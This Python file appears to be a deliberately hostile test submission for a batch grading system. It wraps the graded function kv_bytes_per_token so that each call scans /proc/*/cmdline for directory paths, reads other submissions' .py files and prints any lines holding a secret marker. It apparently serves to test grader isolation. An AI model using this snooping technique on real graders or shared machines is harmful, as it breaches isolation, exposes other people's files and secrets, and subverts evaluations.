# grade-all: one submission reads another's files, here the folder of all submissions, whose path the
# batch grader's command line names (/proc/<pid>/cmdline). HOSTILE lines show what it read.

import glob as _glob
import os as _os
import time as _time

_MARK = "KVLAB-SECRET-"
_shown = set()


def _peek():
    """Print every line holding _MARK in the files _candidates() names (for at most 0.3 s per call)."""
    deadline = _time.monotonic() + 0.3
    for path in _candidates():
        if _time.monotonic() > deadline:
            break
        try:
            with open(path, encoding="utf-8", errors="ignore") as file:
                for line in file:
                    if _MARK in line and line not in _shown:
                        _shown.add(line)
                        print("HOSTILE found another submission:", line.strip())
        except OSError:
            pass


_own_bytes_per_token = kv_bytes_per_token


def kv_bytes_per_token(*args, **kwargs):
    _peek()
    return _own_bytes_per_token(*args, **kwargs)


def _candidates():
    found = []
    for entry in _glob.glob('/proc/[0-9]*/cmdline')[:500]:
        try:
            with open(entry, 'rb') as file:
                parts = file.read().split(b'\0')
        except OSError:
            continue
        for part in parts:
            text = part.decode(errors='ignore')
            if text.startswith('/') and text.count('/') > 1 and _os.path.isdir(text):
                found += _glob.glob(_os.path.join(text, '*', '*.py'))
    return found
